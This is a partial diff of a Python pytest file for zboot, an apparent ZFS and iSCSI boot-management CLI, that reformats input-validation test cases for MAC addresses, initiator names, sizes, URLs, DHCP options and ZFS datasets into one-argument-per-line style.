-         clone("--mac={}", "--", "golden", "pc01"), MAC_BAD),
-    Case("clone --hosts CSV: mac", ("clone", "hosts_file"), read_back(MAC, True), valid_mac(),
-         GOOD_MAC, hosts_csv("mac"), MAC_BAD),
-    Case("clone --hosts TOML: mac", ("clone", "hosts_file"), read_back(MAC, False), valid_mac(),
-         GOOD_MAC, hosts_toml("mac"), MAC_BAD),
+    Case(
+        "clone --mac",
+        ("clone", "mac"),
+        MAC,
+        valid_mac(),
+        GOOD_MAC,
+        clone("--mac={}", "--", "golden", "pc01"),
+        MAC_BAD,
+    ),
+    Case(
+        "clone --hosts CSV: mac",
+        ("clone", "hosts_file"),
+        read_back(MAC, True),
+        valid_mac(),
+        GOOD_MAC,
+        hosts_csv("mac"),
+        MAC_BAD,
+    ),
+    Case(
+        "clone --hosts TOML: mac",
+        ("clone", "hosts_file"),
+        read_back(MAC, False),
+        valid_mac(),
+        GOOD_MAC,
+        hosts_toml("mac"),
+        MAC_BAD,
+    ),
     # initiator names (given empty on the command line is refused; an empty
     # column in a hosts file means "derive it from the host name")
-    Case("clone --initiator", ("clone", "initiator"), IQN, valid_iqn(), IQN_GOOD,
-         clone("--mac", GOOD_MAC, "--initiator={}", "--", "golden", "pc01"), ("", *IQN_BAD)),
-    Case("clone --hosts CSV: initiator", ("clone", "hosts_file"), read_back(optional(IQN), True),
-         valid_iqn(), IQN_GOOD, hosts_csv("initiator"), IQN_BAD),
-    Case("clone --hosts TOML: initiator", ("clone", "hosts_file"),
-         read_back(optional(IQN), False), valid_iqn(), IQN_GOOD, hosts_toml("initiator"),
-         IQN_BAD),
+    Case(
+        "clone --initiator",
+        ("clone", "initiator"),
+        IQN,
+        valid_iqn(),
+        IQN_GOOD,
+        clone("--mac", GOOD_MAC, "--initiator={}", "--", "golden", "pc01"),
+        ("", *IQN_BAD),
+    ),
+    Case(
+        "clone --hosts CSV: initiator",
+        ("clone", "hosts_file"),
+        read_back(optional(IQN), True),
+        valid_iqn(),
+        IQN_GOOD,
+        hosts_csv("initiator"),
+        IQN_BAD,
+    ),
+    Case(
+        "clone --hosts TOML: initiator",
+        ("clone", "hosts_file"),
+        read_back(optional(IQN), False),
+        valid_iqn(),
+        IQN_GOOD,
+        hosts_toml("initiator"),
+        IQN_BAD,
+    ),
     # CHAP kinds in a hosts file
-    Case("clone --hosts CSV: chap", ("clone", "hosts_file"), read_back(CHAP, True),
-         st.sampled_from(CHAP_KINDS), "mutual", hosts_csv("chap"), WORD_BAD),
-    Case("clone --hosts TOML: chap", ("clone", "hosts_file"), read_back(CHAP, False),
-         st.sampled_from(CHAP_KINDS), "mutual", hosts_toml("chap"), WORD_BAD),
+    Case(
+        "clone --hosts CSV: chap",
+        ("clone", "hosts_file"),
+        read_back(CHAP, True),
+        st.sampled_from(CHAP_KINDS),
+        "mutual",
+        hosts_csv("chap"),
+        WORD_BAD,
+    ),
+    Case(
+        "clone --hosts TOML: chap",
+        ("clone", "hosts_file"),
+        read_back(CHAP, False),
+        st.sampled_from(CHAP_KINDS),
+        "mutual",
+        hosts_toml("chap"),
+        WORD_BAD,
+    ),
     # sizes
-    Case("image create --size", ("image create", "size"), SIZE, VALID_SIZE, "1G",
-         lambda v, p: p.cli("image", "create", f"--size={v}", "--", "golden"), SIZE_BAD),
-    Case("image create --volblocksize", ("image create", "volblocksize"), SIZE, VALID_SIZE,
-         "16K", lambda v, p: p.cli("image", "create", "--size", "1G", f"--volblocksize={v}", "--",
-                                   "golden"), SIZE_BAD),
-    Case("image import --size", ("image import", "size"), SIZE, VALID_SIZE, "1G",
-         lambda v, p: p.cli("image", "import", "--format", "raw", f"--size={v}", "--", "golden",
-                            disk(p)), SIZE_BAD),
+    Case(
+        "image create --size",
+        ("image create", "size"),
+        SIZE,
+        VALID_SIZE,
+        "1G",
+        lambda v, p: p.cli("image", "create", f"--size={v}", "--", "golden"),
+        SIZE_BAD,
+    ),
+    Case(
+        "image create --volblocksize",
+        ("image create", "volblocksize"),
+        SIZE,
+        VALID_SIZE,
+        "16K",
+        lambda v, p: p.cli(
+            "image", "create", "--size", "1G", f"--volblocksize={v}", "--", "golden"
+        ),
+        SIZE_BAD,
+    ),
+    Case(
+        "image import --size",
+        ("image import", "size"),
+        SIZE,
+        VALID_SIZE,
+        "1G",
+        lambda v, p: p.cli(
+            "image", "import", "--format", "raw", f"--size={v}", "--", "golden", disk(p)
+        ),
+        SIZE_BAD,
+    ),
     # other names and words
-    Case("image create --compression", ("image create", "compression"), COMPRESSION,
-         VALID_COMPRESSION, "lz4", lambda v, p: p.cli("image", "create", "--size", "1G",
-                                                      f"--compression={v}", "--", "golden"),
-         COMPRESSION_BAD),
-    Case("image import --format", ("image import", "format"), optional(IMAGE_FORMAT),
-         st.sampled_from(IMAGE_FORMATS), "raw",
-         lambda v, p: p.cli("image", "import", f"--format={v}", "--", "golden", disk(p)),
-         WORD_BAD),
-    Case("image snapshot --message", ("image snapshot", "message"), MESSAGE,
-         st.just("monthly updates"), "monthly updates",
-         lambda v, p: p.cli("image", "snapshot", f"--message={v}", "--", "golden"),
-         values=MESSAGES),
-    Case("mode --message", ("mode", "message"), MESSAGE, st.just("monthly updates"),
-         "monthly updates",
-         lambda v, p: p.cli("mode", f"--message={v}", "--", *p.hosts("pc09"), "normal"),
-         values=MESSAGES),
-    Case("mode --winpe", ("mode", "winpe"), URL, VALID_URL, WINPE_GOOD,
-         lambda v, p: p.cli("mode", f"--winpe={v}", "--", *p.hosts("pc09"), "install"), URL_BAD),
-    Case("mode MODE", ("mode", "new_mode"), MODE, st.sampled_from(MODES), "normal",
-         lambda v, p: p.cli("mode", "--", *p.hosts("pc09"), v), WORD_BAD),
-    Case("dhcp --format", ("dhcp", "fmt"), DHCP_FORMAT, st.sampled_from(DHCP_FORMATS),
-         "dnsmasq", lambda v, p: p.cli("dhcp", f"--format={v}"), WORD_BAD),
-    Case("dhcp --tftp-server", ("dhcp", "tftp_server"), ADDRESS, VALID_ADDRESS, "10.0.0.1",
-         lambda v, p: p.cli("dhcp", f"--tftp-server={v}"), ADDRESS_BAD),
-    Case("dhcp --router", ("dhcp", "router"), ADDRESS, VALID_ADDRESS, "10.0.0.254",
-         lambda v, p: p.cli("dhcp", f"--router={v}"), ADDRESS_BAD),
-    Case("--server", ("", "server"), SERVER, VALID_SERVER, "admin@storage.lan",
-         lambda v, p: p.cli(f"--server={v}", "list"), SERVER_BAD),
-    Case("config [zfs] pool", ("", "config"), DATASET, VALID_DATASET, "tank",
-         config_with("pool"), DATASET_BAD),
-    Case("config [zfs] root", ("", "config"), DATASET, VALID_DATASET, "tank/zboot",
-         config_with("root"), DATASET_BAD),
+    Case(
+        "image create --compression",
+        ("image create", "compression"),
+        COMPRESSION,
+        VALID_COMPRESSION,
+        "lz4",
+        lambda v, p: p.cli("image", "create", "--size", "1G", f"--compression={v}", "--", "golden"),
+        COMPRESSION_BAD,
+    ),
+    Case(
+        "image import --format",
+        ("image import", "format"),
+        optional(IMAGE_FORMAT),
+        st.sampled_from(IMAGE_FORMATS),
+        "raw",
+        lambda v, p: p.cli("image", "import", f"--format={v}", "--", "golden", disk(p)),
+        WORD_BAD,
+    ),
+    Case(
+        "image snapshot --message",
+        ("image snapshot", "message"),
+        MESSAGE,
+        st.just("monthly updates"),
+        "monthly updates",
+        lambda v, p: p.cli("image", "snapshot", f"--message={v}", "--", "golden"),
+        values=MESSAGES,
+    ),
+    Case(
+        "mode --message",
+        ("mode", "message"),
+        MESSAGE,
+        st.just("monthly updates"),
+        "monthly updates",
+        lambda v, p: p.cli("mode", f"--message={v}", "--", *p.hosts("pc09"), "normal"),
+        values=MESSAGES,
+    ),
+    Case(
+        "mode --winpe",
+        ("mode", "winpe"),
+        URL,
+        VALID_URL,
+        WINPE_GOOD,
+        lambda v, p: p.cli("mode", f"--winpe={v}", "--", *p.hosts("pc09"), "install"),
+        URL_BAD,
+    ),
+    Case(
+        "mode MODE",
+        ("mode", "new_mode"),
+        MODE,
+        st.sampled_from(MODES),
+        "normal",
+        lambda v, p: p.cli("mode", "--", *p.hosts("pc09"), v),
+        WORD_BAD,
+    ),
+    Case(
+        "dhcp --format",
+        ("dhcp", "fmt"),
+        DHCP_FORMAT,
+        st.sampled_from(DHCP_FORMATS),
+        "dnsmasq",
+        lambda v, p: p.cli("dhcp", f"--format={v}"),
+        WORD_BAD,
+    ),
+    Case(
+        "dhcp --tftp-server",
+        ("dhcp", "tftp_server"),
+        ADDRESS,
+        VALID_ADDRESS,
+        "10.0.0.1",
+        lambda v, p: p.cli("dhcp", f"--tftp-server={v}"),
+        ADDRESS_BAD,
+    ),
+    Case(
+        "dhcp --router",
+        ("dhcp", "router"),
+        ADDRESS,
+        VALID_ADDRESS,
+        "10.0.0.254",
+        lambda v, p: p.cli("dhcp", f"--router={v}"),
+        ADDRESS_BAD,
+    ),
+    Case(
+        "--server",
+        ("", "server"),
+        SERVER,
+        VALID_SERVER,
+        "admin@storage.lan",
+        lambda v, p: p.cli(f"--server={v}", "list"),
+        SERVER_BAD,
+    ),
+    Case(
+        "config [zfs] pool",
+        ("", "config"),
+        DATASET,
+        VALID_DATASET,
+        "tank",
+        config_with("pool"),
+        DATASET_BAD,
+    ),
+    Case(
+        "config [zfs] root",
+        ("", "config"),
+        DATASET,
+        VALID_DATASET,
+        "tank/zboot",
+        config_with("root"),
+        DATASET_BAD,
+    ),
 ]
 
 # Text arguments that are not names zboot checks, and why.
@@ -615,6 +1177,7 @@ DERIVED = {"mac_hexhyp": "mac() in another spelling, for MACs mac() has checked"
 
 
 # --- the checks -------------------------------------------------------------------
+
 
 @pytest.fixture(scope="module")
 def place(tmp_path_factory: pytest.TempPathFactory) -> Place:
@@ -682,9 +1245,12 @@ def text_parameters(t: typer.Typer, prefix: str = "") -> set[tuple[str, str]]:
     for command in t.registered_commands:
         assert command.name and command.callback, command
         callbacks.append((prefix + command.name, command.callback))
-    found = {(name, param) for name, callback in callbacks
-             for param, hint in typing.get_type_hints(callback, include_extras=True).items()
-             if param != "return" and takes_text(hint)}
+    found = {
+        (name, param)
+        for name, callback in callbacks
+        for param, hint in typing.get_type_hints(callback, include_extras=True).items()
+        if param != "return" and takes_text(hint)
+    }
     for group in t.registered_groups:
         assert group.name and group.typer_instance, group
         found |= text_parameters(group.typer_instance, f"{prefix}{group.name} ")
